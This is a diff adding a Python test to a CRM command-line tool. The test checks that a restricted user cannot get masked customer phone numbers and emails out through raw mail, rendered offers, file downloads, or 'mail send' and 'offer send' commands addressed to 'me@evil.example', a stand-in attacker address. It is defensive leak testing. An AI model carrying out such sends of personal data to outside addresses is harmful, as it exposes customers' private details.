@@ -177,3 +177,49 @@ def test_nothing_asks_beside_the_masks() -> None:
     asks = re.compile(r"\bclick\.(echo|prompt|confirm|secho|getchar)\b|\binput\(")
     found = {path.name for path in Path("crmcli/cli").glob("*.py") if asks.search(path.read_text())}
     assert found <= {"asking.py", "terminal.py", "remote.py"}, "ask by cli/asking.py"
+
+
+LETTER = f"""From: =?utf-8?b?0KLQsNC50L3QsA==?= <{EMAIL}>
+To: sales@chai.example
+Subject: =?utf-8?q?Re=3A_=2B7_926_384-31-19?=
+Message-ID: <m1@x.example>
+Content-Type: text/plain; charset=utf-8
+Content-Transfer-Encoding: base64
+
+0J/QvtC30LLQvtC90LjRgtC1ICs3IDkyNiAzODQtMzEtMTkK
+"""
+PAGE = "<p>{{ contact.phone }} {{ contact.email }}</p>\n"
+
+
+def test_what_leaves_as_a_file_is_counted_or_refused(crm: Crm, olga: Crm, spent: Base) -> None:
+    root, client, deal = spent.root, spent.records["client"].id, spent.records["deal"].id
+    kit.write(root, "templates/offers/offer.html.j2", PAGE)
+    kit.write(root, "templates/offers/offer.txt.j2", "{{ contact.phone }}, {{ contact.email }}\n")
+    by_root = {"cwd": root, "CRM_USER": "root"}
+    assert crm("mail", "receive", stdin=LETTER, **by_root).code == 0
+    offer = crm("offer", "draft", deal, "--line", "Чай;1;100", "--ids", **by_root).out.split()[0]
+    table = "имя;телефон\nТайна;8 926 384 31 19\n".encode("utf-16")
+    assert crm("file", "add", client, "-", "--name", "a.csv", stdin=table, **by_root).code == 0
+    doors = (
+        ("mail", "show", client, "--raw"), ("offer", "render", offer, "-o", "-.html"),
+        ("offer", "render", offer, "-o", "-.txt"), ("offer", "render", offer, "-o", "-.pdf"),
+        ("file", "get", client, "a.csv", "-o", "-"),
+        ("mail", "send", client, "--template", "after_call", "--to", "me@evil.example", "--yes"),
+        ("offer", "send", offer, "--template", "after_call", "--to", "me@evil.example", "--yes"),
+    )  # fmt: skip
+    sent = [*root.rglob("out/*")]
+    masked = olga("offer", "render", offer)
+    assert (masked.code, full(masked.out)) == (0, [])
+    for args in doors:
+        refused = olga(*args)
+        assert refused.code == 1, (args, refused)
+        assert "crm reveal REF" in refused.err
+        assert not full(refused.out + refused.err), (args, refused)
+    assert [*root.rglob("out/*")] == sent
+    assert olga("mail", "send", client, "--template", "after_call", "--yes").code == 0
+    tomorrow = kit.NOW.replace(day=kit.NOW.day + 1).isoformat()
+    for args in doors[:2]:
+        assert olga(*args, CRM_NOW=tomorrow).code == 0
+    kept = crm("contact", "list", "--where", "tags has мой", "--columns", "phones", "--csv",
+               cwd=root, CRM_USER="olga", CRM_NOW=tomorrow)  # fmt: skip
+    assert kept.out.count("*****") == 1, "the client of the letter was counted"
